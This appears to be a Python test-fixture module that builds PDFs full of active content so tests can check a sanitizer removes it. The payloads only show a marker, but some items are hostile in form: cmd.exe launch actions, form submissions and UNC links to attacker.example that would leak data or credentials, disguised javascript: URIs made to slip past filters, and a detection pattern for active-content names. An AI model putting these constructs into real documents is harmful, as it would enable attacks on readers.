"""PDFs carrying active content, built with pikepdf: each hides MARKER where a viewer would run or
open it, so a test can prove the marker is gone from the rewritten bytes."""

from __future__ import annotations

import io
import re

import pikepdf
from pikepdf import Array, Dictionary, Name, String

MARKER = "HOSTILE-7f3a"
# Names that only active content uses, as they appear in an uncompressed, object-stream-free dump.
ACTIVE_NAMES = re.compile(
    rb"/(JavaScript|JS|AA|Launch|EmbeddedFiles?|FileAttachment|RichMedia\w*|XFA|GoToE|GoToR|SubmitForm"
    rb"|ImportData|Rendition)(?=[\s/<>\[\]()]|$)"
)


def save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def uncompressed(data: bytes) -> bytes:
    """`data` reopened and written with every stream decompressed and no object streams (qpdf's QDF)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return save(
            pdf, qdf=True, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable
        )


def active_traces(data: bytes) -> list[bytes]:
    """Active-content names and the marker found in `data`, decompressed."""
    dump = uncompressed(data)
    traces = [match.group(0) for match in ACTIVE_NAMES.finditer(dump)]
    return traces + ([MARKER.encode()] if MARKER.encode() in dump else [])


def _document() -> tuple[pikepdf.Pdf, pikepdf.Page]:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(612, 792))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (visible text) Tj ET")
    return pdf, page


def _script(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{MARKER}')")))


def _file_spec(pdf: pikepdf.Pdf) -> pikepdf.Object:
    payload = pdf.make_stream(f"#!/bin/sh\necho {MARKER}\n".encode(), Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("run.sh"), UF=String("run.sh"), EF=Dictionary(F=payload))
    )


def open_action_javascript() -> bytes:
    pdf, _page = _document()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{MARKER}')"))
    return save(pdf)


def script_and_embedded_file() -> bytes:
    """OpenAction JavaScript and an embedded file in one document."""
    pdf, _page = _document()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{MARKER}')"))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("run.sh"), _file_spec(pdf)])))
    return save(pdf)


def names_javascript_tree() -> bytes:
    pdf, _page = _document()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _script(pdf)])))
    return save(pdf)


def launch_action() -> bytes:
    pdf, page = _document()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 600, 300, 620]),
        A=Dictionary(S=Name.Launch, F=String(f"cmd.exe /c {MARKER}"), NewWindow=True),
    )
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
    return save(pdf)


def embedded_file() -> bytes:
    pdf, _page = _document()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("run.sh"), _file_spec(pdf)])))
    return save(pdf)


def file_attachment_annotation() -> bytes:
    pdf, page = _document()
    attachment = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 500, 90, 518]), FS=_file_spec(pdf)
    )
    page.Annots = Array([pdf.make_indirect(attachment)])
    return save(pdf)


def xfa_form() -> bytes:
    pdf, _page = _document()
    xfa = pdf.make_stream(f"<xdp:xdp><script>{MARKER}</script></xdp:xdp>".encode())
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    pdf.Root.NeedsRendering = True
    return save(pdf)


def javascript_in_object_stream() -> bytes:
    """A page-open trigger (/AA /O) whose script action sits compressed inside an object stream."""
    pdf, page = _document()
    page.AA = Dictionary(O=_script(pdf))
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def rich_media_and_javascript_uri() -> bytes:
    pdf, page = _document()
    rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]))
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 600, 300, 620]),
        A=Dictionary(S=Name.URI, URI=String(f"javascript:alert('{MARKER}')")),
    )
    page.Annots = Array([pdf.make_indirect(rich), pdf.make_indirect(link)])
    return save(pdf)


def _links(*actions: Dictionary) -> bytes:
    pdf, page = _document()
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 600 - 30 * n, 300, 620 - 30 * n]),
                    A=action,
                )
            )
            for n, action in enumerate(actions)
        ]
    )
    return save(pdf)


def disguised_script_links() -> bytes:
    """Script URIs as a browser still reads them: a tab inside the scheme, a leading NUL, UTF-16 text
    (pikepdf writes a non-Latin string so), upper case, vbscript."""
    return _links(
        *(
            Dictionary(S=Name.URI, URI=String(uri))
            for uri in (
                f"java\tscript:alert('{MARKER}')",
                f"\x00javascript:alert('{MARKER}')",
                f"javascript:alert('{MARKER}')\u2603",
                f" JAVASCRIPT:alert('{MARKER}')",
                f"vbscript:msgbox('{MARKER}')",
            )
        )
    )


def links_out_of_the_web() -> bytes:
    """Links a CDN must not hand out: data: (an HTML page), file:, a UNC path (the viewer logs in to
    the host), a scheme-less string."""
    return _links(
        *(
            Dictionary(S=Name.URI, URI=String(uri))
            for uri in (
                f"data:text/html,<script>{MARKER}</script>",
                f"file:///etc/{MARKER}",
                f"\\\\attacker.example\\{MARKER}",
                f"//attacker.example/{MARKER}",
            )
        )
    )


def form_submission_and_import() -> bytes:
    return _links(
        Dictionary(
            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://attacker.example/{MARKER}"))
        ),
        Dictionary(S=Name.ImportData, F=String(f"{MARKER}.fdf")),
    )


def remote_document_and_rendition() -> bytes:
    """A link into a file on a UNC path (the viewer fetches it, with the reader's credentials) and a
    media rendition, chained after a harmless go-to in the same document."""
    remote = Dictionary(
        S=Name.GoToR, F=String(f"\\\\attacker.example\\share\\{MARKER}.pdf"), D=Array([0, Name.Fit])
    )
    rendition = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, N=String(MARKER)))
    return _links(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([remote, rendition])))


def javascript_in_an_incremental_update() -> bytes:
    """A clean file with an incremental update appended, as an editor saves: the update replaces the
    catalog with one whose /OpenAction runs a script."""
    pdf, _page = _document()
    base = save(pdf, static_id=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(base)) as reopened:
        root = reopened.Root.objgen[0]
        pages = reopened.Root.Pages.objgen[0]
        size = int(reopened.trailer.Size)
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    script = size
    update = b"\n"
    offsets = {}
    offsets[root] = len(base) + len(update)
    update += (
        f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R /OpenAction {script} 0 R >>\nendobj\n".encode()
    )
    offsets[script] = len(base) + len(update)
    update += f"{script} 0 obj\n<< /S /JavaScript /JS (app.alert\\('{MARKER}'\\)) >>\nendobj\n".encode()
    xref_at = len(base) + len(update)
    xref = b"xref\n" + b"".join(
        f"{number} 1\n{offsets[number]:010d} 00000 n \n".encode() for number in sorted(offsets)
    )
    trailer = (
        f"trailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\nstartxref\n{xref_at}\n%%EOF\n"
    )
    return base + update + xref + trailer.encode()


def script_link_in_an_indirect_annotation_array() -> bytes:
    """A page whose /Annots is an indirect array holding its link annotation directly, the link's
    action a script: nothing but the array refers to the annotation."""
    pdf, page = _document()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 600, 300, 620]),
        A=Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{MARKER}')")),
    )
    page.obj[Name.Annots] = pdf.make_indirect(Array([link]))
    return save(pdf)


def launch_chained_from_an_indirect_array_in_an_object_stream() -> bytes:
    """An /OpenAction that goes to page 1, then runs the actions of its /Next array: an indirect array,
    compressed in an object stream, holding a /Launch action directly."""
    pdf, page = _document()
    chain = pdf.make_indirect(Array([Dictionary(S=Name.Launch, F=String(f"{MARKER}.exe"))]))
    pdf.Root[Name.OpenAction] = Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=chain)
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def script_and_attachment_typed_by_indirect_names() -> bytes:
    """An /OpenAction script whose /S, and a file attachment annotation whose /Subtype, are indirect
    name objects (`/S 5 0 R`): valid PDF, which a viewer runs and shows like direct names."""
    pdf, page = _document()
    pdf.Root[Name.OpenAction] = pdf.make_indirect(
        Dictionary(S=pdf.make_indirect(Name.JavaScript), JS=String(f"app.alert('{MARKER}')"))
    )
    attachment = Dictionary(
        Type=Name.Annot,
        Subtype=pdf.make_indirect(Name.FileAttachment),
        Rect=Array([72, 600, 90, 620]),
        Contents=String(MARKER),
    )
    page.obj[Name.Annots] = Array([pdf.make_indirect(attachment)])
    return save(pdf)


def plain_link() -> bytes:
    pdf, page = _document()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 600, 300, 620]),
        A=Dictionary(S=Name.URI, URI=String("https://example.test/")),
    )
    page.Annots = Array([pdf.make_indirect(link)])
    return save(pdf)


HOSTILE_PDFS = {
    "open-action-javascript.pdf": (open_action_javascript, {"javascript"}),
    "names-javascript.pdf": (names_javascript_tree, {"javascript"}),
    "launch.pdf": (launch_action, {"launch"}),
    "embedded-file.pdf": (embedded_file, {"embedded_files"}),
    "file-attachment.pdf": (file_attachment_annotation, {"embedded_files", "file_attachment_annotations"}),
    "xfa.pdf": (xfa_form, {"xfa"}),
    "objstm-javascript.pdf": (javascript_in_object_stream, {"javascript", "additional_actions"}),
    "rich-media.pdf": (rich_media_and_javascript_uri, {"rich_media", "javascript"}),
    "disguised-script-links.pdf": (disguised_script_links, {"javascript"}),
    "links-out-of-the-web.pdf": (links_out_of_the_web, {"unsafe_links"}),
    "form-submission.pdf": (form_submission_and_import, {"form_submission"}),
    "remote-document.pdf": (remote_document_and_rendition, {"external_documents", "rich_media"}),
    "incremental-update-javascript.pdf": (javascript_in_an_incremental_update, {"javascript"}),
    "indirect-annots-javascript.pdf": (script_link_in_an_indirect_annotation_array, {"javascript"}),
    "indirect-next-launch.pdf": (launch_chained_from_an_indirect_array_in_an_object_stream, {"launch"}),
    "indirect-names.pdf": (
        script_and_attachment_typed_by_indirect_names,
        {"javascript", "file_attachment_annotations"},
    ),
}
